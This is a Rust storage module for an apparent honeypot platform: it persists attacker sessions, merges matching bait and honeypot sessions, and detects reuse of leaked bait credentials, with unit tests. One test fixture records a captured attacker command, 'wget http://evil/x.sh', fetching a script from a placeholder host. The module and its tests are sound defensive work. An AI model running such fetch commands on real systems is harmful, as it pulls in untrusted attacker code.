use chrono::{Duration, NaiveDateTime};
use log::debug;
use sea_orm::sea_query::Expr;
use sea_orm::{
    ActiveModelTrait, ActiveValue::Set, ColumnTrait, ConnectOptions, ConnectionTrait, Database,
    DatabaseConnection, DatabaseTransaction, EntityTrait, JoinType, PaginatorTrait, QueryFilter,
    QueryOrder, QuerySelect, RelationTrait, Schema, TransactionTrait,
};

use crate::error_handling::types::StorageError;
use crate::session::types::{
    format_timestamp, parse_timestamp, Authentication, Classification, Session, SessionKind,
    TranscriptEntry,
};
use crate::storage::entities::{authentications, clients, honeypots, sessions, transcripts};

/// Transactional repository over the session store.
///
/// Every mutating operation is one bounded transaction; a session
/// exclusively owns its authentication and transcript rows, so deletes
/// cascade to them explicitly within the same transaction.
#[derive(Clone)]
pub struct Repository {
    db: DatabaseConnection,
}

impl Repository {
    /// Connects to the store and creates the schema if missing.
    ///
    /// A single pooled connection is enough for the single-consumer engine
    /// and keeps `sqlite::memory:` databases coherent in tests.
    pub async fn open(url: &str) -> Result<Self, StorageError> {
        let mut options = ConnectOptions::new(url.to_owned());
        options.max_connections(1).sqlx_logging(false);
        let db = Database::connect(options)
            .await
            .map_err(StorageError::ConnectionFailed)?;
        let repository = Self { db };
        repository.init_schema().await?;
        Ok(repository)
    }

    async fn init_schema(&self) -> Result<(), StorageError> {
        let builder = self.db.get_database_backend();
        let schema = Schema::new(builder);
        let mut statements = [
            schema.create_table_from_entity(honeypots::Entity),
            schema.create_table_from_entity(clients::Entity),
            schema.create_table_from_entity(sessions::Entity),
            schema.create_table_from_entity(authentications::Entity),
            schema.create_table_from_entity(transcripts::Entity),
        ];
        for statement in &mut statements {
            self.db
                .execute(builder.build(statement.if_not_exists()))
                .await
                .map_err(StorageError::WriteFailed)?;
        }
        Ok(())
    }

    /// Registers a honeypot identity. Identities are created elsewhere in
    /// the platform; this exists for host wiring and tests.
    pub async fn register_honeypot(&self, id: &str, name: &str) -> Result<(), StorageError> {
        honeypots::ActiveModel {
            id: Set(id.to_owned()),
            name: Set(name.to_owned()),
        }
        .insert(&self.db)
        .await
        .map_err(StorageError::WriteFailed)?;
        Ok(())
    }

    /// Registers a client identity. See `register_honeypot`.
    pub async fn register_client(&self, id: &str, at: NaiveDateTime) -> Result<(), StorageError> {
        clients::ActiveModel {
            id: Set(id.to_owned()),
            last_activity: Set(format_timestamp(at)),
        }
        .insert(&self.db)
        .await
        .map_err(StorageError::WriteFailed)?;
        Ok(())
    }

    pub async fn honeypot_exists(&self, id: &str) -> Result<bool, StorageError> {
        let row = honeypots::Entity::find_by_id(id)
            .one(&self.db)
            .await
            .map_err(StorageError::ReadFailed)?;
        Ok(row.is_some())
    }

    pub async fn client_last_activity(&self, id: &str) -> Result<NaiveDateTime, StorageError> {
        let row = clients::Entity::find_by_id(id)
            .one(&self.db)
            .await
            .map_err(StorageError::ReadFailed)?
            .ok_or_else(|| StorageError::MissingRecord(id.to_owned()))?;
        parse_stored_timestamp(&row.last_activity)
    }

    /// Persists a session with its authentication and transcript rows in
    /// one transaction. For bait sessions the reporting client's
    /// last-activity time is bumped within the same transaction, so a
    /// failed insert leaves no trace; an unknown client fails the record.
    pub async fn insert_session(&self, session: &Session) -> Result<(), StorageError> {
        let txn = self.db.begin().await.map_err(StorageError::WriteFailed)?;
        if let Some(client_id) = &session.client_id {
            let result = clients::Entity::update_many()
                .col_expr(
                    clients::Column::LastActivity,
                    Expr::value(format_timestamp(session.received)),
                )
                .filter(clients::Column::Id.eq(client_id.as_str()))
                .exec(&txn)
                .await
                .map_err(StorageError::WriteFailed)?;
            if result.rows_affected == 0 {
                return Err(StorageError::MissingRecord(client_id.clone()));
            }
        }
        sessions::ActiveModel {
            id: Set(session.id.clone()),
            kind: Set(session.kind.as_str().to_owned()),
            protocol: Set(session.protocol.clone()),
            source_ip: Set(session.source_ip.clone()),
            source_port: Set(i32::from(session.source_port)),
            destination_ip: Set(session.destination_ip.clone()),
            destination_port: Set(i32::from(session.destination_port)),
            timestamp: Set(format_timestamp(session.timestamp)),
            received: Set(format_timestamp(session.received)),
            honeypot_id: Set(session.honeypot_id.clone()),
            client_id: Set(session.client_id.clone()),
            classification: Set(session.classification.as_str().to_owned()),
            did_connect: Set(session.did_connect),
            did_login: Set(session.did_login),
            did_complete: Set(session.did_complete),
            session_data: Set(session.session_data.clone()),
        }
        .insert(&txn)
        .await
        .map_err(StorageError::WriteFailed)?;

        for auth in &session.authentications {
            authentications::ActiveModel {
                id: Set(auth.id.clone()),
                session_id: Set(session.id.clone()),
                username: Set(auth.username.clone()),
                password: Set(auth.password.clone()),
                successful: Set(auth.successful),
                timestamp: Set(format_timestamp(auth.timestamp)),
            }
            .insert(&txn)
            .await
            .map_err(StorageError::WriteFailed)?;
        }
        for entry in &session.transcript {
            transcripts::ActiveModel {
                session_id: Set(session.id.clone()),
                timestamp: Set(format_timestamp(entry.timestamp)),
                direction: Set(entry.direction.clone()),
                data: Set(entry.data.clone()),
                ..Default::default()
            }
            .insert(&txn)
            .await
            .map_err(StorageError::WriteFailed)?;
        }
        txn.commit().await.map_err(StorageError::WriteFailed)
    }

    /// Loads one session with its owned rows, or `None`.
    pub async fn get_session(&self, id: &str) -> Result<Option<Session>, StorageError> {
        let row = sessions::Entity::find_by_id(id)
            .one(&self.db)
            .await
            .map_err(StorageError::ReadFailed)?;
        match row {
            None => Ok(None),
            Some(row) => {
                let auths = self.load_authentications(&row.id).await?;
                let transcript = transcripts::Entity::find()
                    .filter(transcripts::Column::SessionId.eq(row.id.as_str()))
                    .order_by_asc(transcripts::Column::Id)
                    .all(&self.db)
                    .await
                    .map_err(StorageError::ReadFailed)?;
                Ok(Some(session_from_rows(row, auths, transcript)?))
            }
        }
    }

    pub async fn session_count(&self) -> Result<u64, StorageError> {
        sessions::Entity::find()
            .count(&self.db)
            .await
            .map_err(StorageError::ReadFailed)
    }

    /// Enumerates match candidates for a subject session: opposite kind,
    /// same protocol and honeypot, event timestamp within the inclusive
    /// window, different identifier. Ordered by (received, id) so the
    /// correlator's enumeration order is deterministic.
    ///
    /// Candidates carry their authentication rows; transcripts stay in the
    /// store, the credential scan does not need them.
    pub async fn find_candidates(
        &self,
        subject: &Session,
        window: Duration,
    ) -> Result<Vec<Session>, StorageError> {
        let window_start = format_timestamp(subject.timestamp - window);
        let window_end = format_timestamp(subject.timestamp + window);
        let rows = sessions::Entity::find()
            .filter(sessions::Column::Protocol.eq(subject.protocol.as_str()))
            .filter(sessions::Column::HoneypotId.eq(subject.honeypot_id.as_str()))
            .filter(sessions::Column::Kind.ne(subject.kind.as_str()))
            .filter(sessions::Column::Timestamp.gte(window_start))
            .filter(sessions::Column::Timestamp.lte(window_end))
            .filter(sessions::Column::Id.ne(subject.id.as_str()))
            .order_by_asc(sessions::Column::Received)
            .order_by_asc(sessions::Column::Id)
            .all(&self.db)
            .await
            .map_err(StorageError::ReadFailed)?;

        let mut candidates = Vec::with_capacity(rows.len());
        for row in rows {
            let auths = self.load_authentications(&row.id).await?;
            candidates.push(session_from_rows(row, auths, Vec::new())?);
        }
        Ok(candidates)
    }

    /// Reports whether any of the given credential tuples was ever leaked
    /// by a bait client, regardless of the correlation window. Matches on
    /// (username, password) only; the success flag of the leaking attempt
    /// is irrelevant for reuse detection.
    pub async fn bait_credentials_leaked(
        &self,
        authentications: &[Authentication],
    ) -> Result<bool, StorageError> {
        for auth in authentications {
            let leaked = authentications::Entity::find()
                .join(JoinType::InnerJoin, authentications::Relation::Session.def())
                .filter(sessions::Column::Kind.eq(SessionKind::Bait.as_str()))
                .filter(authentications::Column::Username.eq(auth.username.as_str()))
                .filter(authentications::Column::Password.eq(auth.password.as_str()))
                .count(&self.db)
                .await
                .map_err(StorageError::ReadFailed)?;
            if leaked > 0 {
                return Ok(true);
            }
        }
        Ok(false)
    }

    /// Rewrites a session's classification.
    pub async fn classify_session(
        &self,
        id: &str,
        classification: Classification,
    ) -> Result<(), StorageError> {
        let result = sessions::Entity::update_many()
            .col_expr(
                sessions::Column::Classification,
                Expr::value(classification.as_str()),
            )
            .filter(sessions::Column::Id.eq(id))
            .exec(&self.db)
            .await
            .map_err(StorageError::WriteFailed)?;
        if result.rows_affected == 0 {
            return Err(StorageError::MissingRecord(id.to_owned()));
        }
        Ok(())
    }

    /// Consolidates a matched pair in one transaction: the bait session is
    /// reclassified `bait_session` and takes over the honeypot session's
    /// content and transcript (replace, not append), then the honeypot
    /// session and its remaining owned rows are deleted.
    pub async fn merge_sessions(
        &self,
        honeypot_session_id: &str,
        bait_session_id: &str,
    ) -> Result<(), StorageError> {
        debug!(
            "classifying bait session {} as legit bait and deleting matching honeypot session {}",
            bait_session_id, honeypot_session_id
        );
        let txn = self.db.begin().await.map_err(StorageError::WriteFailed)?;

        let honeypot_row = sessions::Entity::find_by_id(honeypot_session_id)
            .one(&txn)
            .await
            .map_err(StorageError::ReadFailed)?
            .ok_or_else(|| StorageError::MissingRecord(honeypot_session_id.to_owned()))?;
        let bait_row = sessions::Entity::find_by_id(bait_session_id)
            .one(&txn)
            .await
            .map_err(StorageError::ReadFailed)?
            .ok_or_else(|| StorageError::MissingRecord(bait_session_id.to_owned()))?;

        let mut bait: sessions::ActiveModel = bait_row.into();
        bait.classification = Set(Classification::BaitSession.as_str().to_owned());
        bait.session_data = Set(honeypot_row.session_data.clone());
        bait.update(&txn).await.map_err(StorageError::WriteFailed)?;

        // Replace semantics: drop whatever the bait side holds, then
        // re-parent the honeypot transcript in place.
        transcripts::Entity::delete_many()
            .filter(transcripts::Column::SessionId.eq(bait_session_id))
            .exec(&txn)
            .await
            .map_err(StorageError::WriteFailed)?;
        transcripts::Entity::update_many()
            .col_expr(transcripts::Column::SessionId, Expr::value(bait_session_id))
            .filter(transcripts::Column::SessionId.eq(honeypot_session_id))
            .exec(&txn)
            .await
            .map_err(StorageError::WriteFailed)?;

        authentications::Entity::delete_many()
            .filter(authentications::Column::SessionId.eq(honeypot_session_id))
            .exec(&txn)
            .await
            .map_err(StorageError::WriteFailed)?;
        sessions::Entity::delete_by_id(honeypot_session_id)
            .exec(&txn)
            .await
            .map_err(StorageError::WriteFailed)?;

        txn.commit().await.map_err(StorageError::WriteFailed)
    }

    /// Deletes one session and its owned rows.
    pub async fn delete_session(&self, id: &str) -> Result<(), StorageError> {
        let txn = self.db.begin().await.map_err(StorageError::WriteFailed)?;
        delete_sessions_in(&txn, vec![id.to_owned()]).await?;
        txn.commit().await.map_err(StorageError::WriteFailed)
    }

    /// Startup cleanup: pending sessions are crash residue from an
    /// interrupted correlation pass. Returns the number removed.
    pub async fn clear_pending(&self) -> Result<u64, StorageError> {
        self.clear_where(Some(Classification::Pending)).await
    }

    /// Deletes every stored session. Returns the number removed.
    pub async fn clear_all(&self) -> Result<u64, StorageError> {
        self.clear_where(None).await
    }

    async fn clear_where(
        &self,
        classification: Option<Classification>,
    ) -> Result<u64, StorageError> {
        let txn = self.db.begin().await.map_err(StorageError::WriteFailed)?;
        let mut query = sessions::Entity::find();
        if let Some(classification) = classification {
            query = query.filter(sessions::Column::Classification.eq(classification.as_str()));
        }
        let ids = query
            .all(&txn)
            .await
            .map_err(StorageError::ReadFailed)?
            .into_iter()
            .map(|row| row.id)
            .collect::<Vec<_>>();
        let deleted = delete_sessions_in(&txn, ids).await?;
        txn.commit().await.map_err(StorageError::WriteFailed)?;
        Ok(deleted)
    }

    async fn load_authentications(
        &self,
        session_id: &str,
    ) -> Result<Vec<authentications::Model>, StorageError> {
        authentications::Entity::find()
            .filter(authentications::Column::SessionId.eq(session_id))
            .order_by_asc(authentications::Column::Timestamp)
            .all(&self.db)
            .await
            .map_err(StorageError::ReadFailed)
    }
}

/// Explicit cascade: owned rows first, then the sessions themselves.
async fn delete_sessions_in(
    txn: &DatabaseTransaction,
    ids: Vec<String>,
) -> Result<u64, StorageError> {
    if ids.is_empty() {
        return Ok(0);
    }
    authentications::Entity::delete_many()
        .filter(authentications::Column::SessionId.is_in(ids.clone()))
        .exec(txn)
        .await
        .map_err(StorageError::WriteFailed)?;
    transcripts::Entity::delete_many()
        .filter(transcripts::Column::SessionId.is_in(ids.clone()))
        .exec(txn)
        .await
        .map_err(StorageError::WriteFailed)?;
    let result = sessions::Entity::delete_many()
        .filter(sessions::Column::Id.is_in(ids))
        .exec(txn)
        .await
        .map_err(StorageError::WriteFailed)?;
    Ok(result.rows_affected)
}

fn session_from_rows(
    row: sessions::Model,
    auths: Vec<authentications::Model>,
    transcript: Vec<transcripts::Model>,
) -> Result<Session, StorageError> {
    let kind = SessionKind::from_str(&row.kind)
        .ok_or_else(|| StorageError::Corrupt(format!("session kind '{}'", row.kind)))?;
    let classification = Classification::from_str(&row.classification).ok_or_else(|| {
        StorageError::Corrupt(format!("classification '{}'", row.classification))
    })?;
    let authentications = auths
        .into_iter()
        .map(|auth| {
            Ok(Authentication {
                timestamp: parse_stored_timestamp(&auth.timestamp)?,
                id: auth.id,
                username: auth.username,
                password: auth.password,
                successful: auth.successful,
            })
        })
        .collect::<Result<Vec<_>, StorageError>>()?;
    let transcript = transcript
        .into_iter()
        .map(|entry| {
            Ok(TranscriptEntry {
                timestamp: parse_stored_timestamp(&entry.timestamp)?,
                direction: entry.direction,
                data: entry.data,
            })
        })
        .collect::<Result<Vec<_>, StorageError>>()?;
    Ok(Session {
        timestamp: parse_stored_timestamp(&row.timestamp)?,
        received: parse_stored_timestamp(&row.received)?,
        source_port: port_from_row(row.source_port)?,
        destination_port: port_from_row(row.destination_port)?,
        id: row.id,
        kind,
        protocol: row.protocol,
        source_ip: row.source_ip,
        destination_ip: row.destination_ip,
        honeypot_id: row.honeypot_id,
        client_id: row.client_id,
        classification,
        did_connect: row.did_connect,
        did_login: row.did_login,
        did_complete: row.did_complete,
        authentications,
        transcript,
        session_data: row.session_data,
    })
}

fn parse_stored_timestamp(raw: &str) -> Result<NaiveDateTime, StorageError> {
    parse_timestamp(raw).map_err(|e| StorageError::Corrupt(format!("timestamp '{}': {}", raw, e)))
}

fn port_from_row(port: i32) -> Result<u16, StorageError> {
    u16::try_from(port).map_err(|_| StorageError::Corrupt(format!("port {}", port)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use uuid::Uuid;

    async fn repository() -> Repository {
        let repo = Repository::open("sqlite::memory:").await.unwrap();
        repo.register_honeypot("hp-1", "hive-01").await.unwrap();
        repo.register_client("client-1", ts("2014-05-01T09:00:00.000000"))
            .await
            .unwrap();
        repo
    }

    fn ts(raw: &str) -> NaiveDateTime {
        parse_timestamp(raw).unwrap()
    }

    fn auth(username: &str, password: &str, successful: bool, at: &str) -> Authentication {
        Authentication {
            id: Uuid::new_v4().to_string(),
            username: username.into(),
            password: password.into(),
            successful,
            timestamp: ts(at),
        }
    }

    fn session(kind: SessionKind, id: &str, at: &str, auths: Vec<Authentication>) -> Session {
        Session {
            id: id.to_owned(),
            kind,
            protocol: "ssh".into(),
            source_ip: "192.168.1.50".into(),
            source_port: 49152,
            destination_ip: "10.0.0.5".into(),
            destination_port: 22,
            timestamp: ts(at),
            received: ts(at),
            honeypot_id: "hp-1".into(),
            client_id: match kind {
                SessionKind::Honeypot => None,
                SessionKind::Bait => Some("client-1".into()),
            },
            classification: Classification::Pending,
            did_connect: None,
            did_login: None,
            did_complete: None,
            authentications: auths,
            transcript: Vec::new(),
            session_data: None,
        }
    }

    #[tokio::test]
    async fn session_round_trip() {
        let repo = repository().await;
        let mut stored = session(
            SessionKind::Honeypot,
            "h-1",
            "2014-05-01T10:00:00.000000",
            vec![auth("root", "toor", true, "2014-05-01T10:00:00.500000")],
        );
        stored.transcript.push(TranscriptEntry {
            timestamp: ts("2014-05-01T10:00:01.000000"),
            direction: "incoming".into(),
            data: "uname -a\r\n".into(),
        });
        stored.session_data = Some("{\"client\":\"OpenSSH_6.0\"}".into());
        repo.insert_session(&stored).await.unwrap();

        let loaded = repo.get_session("h-1").await.unwrap().unwrap();
        assert_eq!(loaded.kind, SessionKind::Honeypot);
        assert_eq!(loaded.classification, Classification::Pending);
        assert_eq!(loaded.timestamp, stored.timestamp);
        assert_eq!(loaded.authentications.len(), 1);
        assert_eq!(loaded.authentications[0].username, "root");
        assert_eq!(loaded.transcript.len(), 1);
        assert_eq!(loaded.transcript[0].data, "uname -a\r\n");
        assert_eq!(loaded.session_data, stored.session_data);
        assert_eq!(loaded.source_port, 49152);
    }

    #[tokio::test]
    async fn candidate_window_is_inclusive_at_both_boundaries() {
        let repo = repository().await;
        let early_edge =
            session(SessionKind::Honeypot, "h-early", "2014-05-01T10:00:00.000000", vec![]);
        let late_edge =
            session(SessionKind::Honeypot, "h-late", "2014-05-01T10:00:10.000000", vec![]);
        let past_edge =
            session(SessionKind::Honeypot, "h-past", "2014-05-01T10:00:10.000001", vec![]);
        repo.insert_session(&early_edge).await.unwrap();
        repo.insert_session(&late_edge).await.unwrap();
        repo.insert_session(&past_edge).await.unwrap();

        let subject = session(SessionKind::Bait, "b-1", "2014-05-01T10:00:05.000000", vec![]);
        repo.insert_session(&subject).await.unwrap();
        let candidates = repo
            .find_candidates(&subject, Duration::seconds(5))
            .await
            .unwrap();
        let ids: Vec<&str> = candidates.iter().map(|c| c.id.as_str()).collect();
        assert_eq!(ids, vec!["h-early", "h-late"]);
    }

    #[tokio::test]
    async fn candidates_are_opposite_kind_only() {
        let repo = repository().await;
        let same_kind = session(
            SessionKind::Bait,
            "b-other",
            "2014-05-01T10:00:01.000000",
            vec![auth("root", "toor", true, "2014-05-01T10:00:01.000000")],
        );
        repo.insert_session(&same_kind).await.unwrap();

        let subject = session(SessionKind::Bait, "b-1", "2014-05-01T10:00:03.000000", vec![]);
        repo.insert_session(&subject).await.unwrap();
        let candidates = repo
            .find_candidates(&subject, Duration::seconds(5))
            .await
            .unwrap();
        assert!(candidates.is_empty());
    }

    #[tokio::test]
    async fn candidates_require_same_protocol_and_honeypot() {
        let repo = repository().await;
        repo.register_honeypot("hp-2", "hive-02").await.unwrap();
        let mut other_protocol =
            session(SessionKind::Honeypot, "h-telnet", "2014-05-01T10:00:01.000000", vec![]);
        other_protocol.protocol = "telnet".into();
        let mut other_honeypot =
            session(SessionKind::Honeypot, "h-other", "2014-05-01T10:00:01.000000", vec![]);
        other_honeypot.honeypot_id = "hp-2".into();
        repo.insert_session(&other_protocol).await.unwrap();
        repo.insert_session(&other_honeypot).await.unwrap();

        let subject = session(SessionKind::Bait, "b-1", "2014-05-01T10:00:03.000000", vec![]);
        repo.insert_session(&subject).await.unwrap();
        let candidates = repo
            .find_candidates(&subject, Duration::seconds(5))
            .await
            .unwrap();
        assert!(candidates.is_empty());
    }

    #[tokio::test]
    async fn candidates_carry_their_authentications() {
        let repo = repository().await;
        let honeypot = session(
            SessionKind::Honeypot,
            "h-1",
            "2014-05-01T10:00:00.000000",
            vec![auth("root", "toor", true, "2014-05-01T10:00:00.500000")],
        );
        repo.insert_session(&honeypot).await.unwrap();

        let subject = session(SessionKind::Bait, "b-1", "2014-05-01T10:00:03.000000", vec![]);
        repo.insert_session(&subject).await.unwrap();
        let candidates = repo
            .find_candidates(&subject, Duration::seconds(5))
            .await
            .unwrap();
        assert_eq!(candidates.len(), 1);
        assert_eq!(candidates[0].authentications.len(), 1);
        assert_eq!(candidates[0].authentications[0].password, "toor");
    }

    #[tokio::test]
    async fn merge_reparents_transcript_and_deletes_the_honeypot_session() {
        let repo = repository().await;
        let mut honeypot = session(
            SessionKind::Honeypot,
            "h-1",
            "2014-05-01T10:00:00.000000",
            vec![auth("root", "toor", true, "2014-05-01T10:00:00.500000")],
        );
        honeypot.transcript.push(TranscriptEntry {
            timestamp: ts("2014-05-01T10:00:01.000000"),
            direction: "incoming".into(),
            data: "wget http://evil/x.sh\r\n".into(),
        });
        honeypot.session_data = Some("{\"term\":\"xterm\"}".into());
        let bait = session(
            SessionKind::Bait,
            "b-1",
            "2014-05-01T10:00:03.000000",
            vec![auth("root", "toor", true, "2014-05-01T10:00:03.100000")],
        );
        repo.insert_session(&honeypot).await.unwrap();
        repo.insert_session(&bait).await.unwrap();

        repo.merge_sessions("h-1", "b-1").await.unwrap();

        assert!(repo.get_session("h-1").await.unwrap().is_none());
        let survivor = repo.get_session("b-1").await.unwrap().unwrap();
        assert_eq!(survivor.classification, Classification::BaitSession);
        assert_eq!(survivor.transcript.len(), 1);
        assert_eq!(survivor.transcript[0].data, "wget http://evil/x.sh\r\n");
        assert_eq!(survivor.session_data, Some("{\"term\":\"xterm\"}".into()));
        // The bait session keeps its own authentications.
        assert_eq!(survivor.authentications.len(), 1);
        assert_eq!(repo.session_count().await.unwrap(), 1);
    }

    #[tokio::test]
    async fn clear_pending_leaves_resolved_sessions_alone() {
        let repo = repository().await;
        let pending = session(SessionKind::Honeypot, "h-1", "2014-05-01T10:00:00.000000", vec![]);
        let mut resolved =
            session(SessionKind::Honeypot, "h-2", "2014-05-01T10:00:01.000000", vec![]);
        resolved.classification = Classification::Bruteforce;
        repo.insert_session(&pending).await.unwrap();
        repo.insert_session(&resolved).await.unwrap();

        let removed = repo.clear_pending().await.unwrap();
        assert_eq!(removed, 1);
        assert!(repo.get_session("h-1").await.unwrap().is_none());
        assert!(repo.get_session("h-2").await.unwrap().is_some());

        let removed = repo.clear_all().await.unwrap();
        assert_eq!(removed, 1);
        assert_eq!(repo.session_count().await.unwrap(), 0);
    }

    #[tokio::test]
    async fn delete_session_cascades_to_owned_rows() {
        let repo = repository().await;
        let mut stored = session(
            SessionKind::Honeypot,
            "h-1",
            "2014-05-01T10:00:00.000000",
            vec![auth("root", "toor", true, "2014-05-01T10:00:00.500000")],
        );
        stored.transcript.push(TranscriptEntry {
            timestamp: ts("2014-05-01T10:00:01.000000"),
            direction: "incoming".into(),
            data: "exit\r\n".into(),
        });
        repo.insert_session(&stored).await.unwrap();
        repo.delete_session("h-1").await.unwrap();
        assert!(repo.get_session("h-1").await.unwrap().is_none());
        assert_eq!(repo.session_count().await.unwrap(), 0);
    }

    #[tokio::test]
    async fn bait_insert_requires_a_known_client() {
        let repo = repository().await;
        let mut stranger = session(SessionKind::Bait, "b-1", "2014-05-01T10:00:00.000000", vec![]);
        stranger.client_id = Some("client-404".into());
        let result = repo.insert_session(&stranger).await;
        assert!(matches!(result, Err(StorageError::MissingRecord(_))));
        assert_eq!(repo.session_count().await.unwrap(), 0);
    }

    #[tokio::test]
    async fn client_activity_bump_rolls_back_with_a_failed_insert() {
        let repo = repository().await;
        let mut bait = session(SessionKind::Bait, "b-1", "2014-05-01T10:00:00.000000", vec![]);
        bait.received = ts("2014-05-01T10:00:00.000000");
        repo.insert_session(&bait).await.unwrap();
        assert_eq!(
            repo.client_last_activity("client-1").await.unwrap(),
            ts("2014-05-01T10:00:00.000000")
        );

        // Same id again: the insert fails on the primary key, and the
        // bump made earlier in the transaction must not survive.
        let mut duplicate = session(SessionKind::Bait, "b-1", "2014-05-01T10:05:00.000000", vec![]);
        duplicate.received = ts("2014-05-01T10:05:00.000000");
        assert!(repo.insert_session(&duplicate).await.is_err());
        assert_eq!(
            repo.client_last_activity("client-1").await.unwrap(),
            ts("2014-05-01T10:00:00.000000")
        );
    }

    #[tokio::test]
    async fn leaked_credentials_are_found_across_any_window() {
        let repo = repository().await;
        let bait = session(
            SessionKind::Bait,
            "b-1",
            "2014-05-01T08:00:00.000000",
            vec![auth("root", "toor", true, "2014-05-01T08:00:00.000000")],
        );
        repo.insert_session(&bait).await.unwrap();

        // Success flag of the attacker's attempt is irrelevant for reuse.
        let reused = vec![auth("root", "toor", false, "2014-05-01T12:00:00.000000")];
        assert!(repo.bait_credentials_leaked(&reused).await.unwrap());

        let guessed = vec![auth("admin", "admin", true, "2014-05-01T12:00:00.000000")];
        assert!(!repo.bait_credentials_leaked(&guessed).await.unwrap());

        // Honeypot-side attempts are not leaks.
        let honeypot = session(
            SessionKind::Honeypot,
            "h-1",
            "2014-05-01T08:00:00.000000",
            vec![auth("admin", "admin", true, "2014-05-01T08:00:00.000000")],
        );
        repo.insert_session(&honeypot).await.unwrap();
        assert!(!repo.bait_credentials_leaked(&guessed).await.unwrap());
    }

    #[tokio::test]
    async fn file_backed_store_survives_reopen() {
        let dir = tempfile::TempDir::new().unwrap();
        let url = format!("sqlite://{}?mode=rwc", dir.path().join("apiary.sqlite3").display());
        {
            let repo = Repository::open(&url).await.unwrap();
            repo.register_honeypot("hp-1", "hive-01").await.unwrap();
            let stored =
                session(SessionKind::Honeypot, "h-1", "2014-05-01T10:00:00.000000", vec![]);
            repo.insert_session(&stored).await.unwrap();
        }
        let repo = Repository::open(&url).await.unwrap();
        assert!(repo.get_session("h-1").await.unwrap().is_some());
    }
}
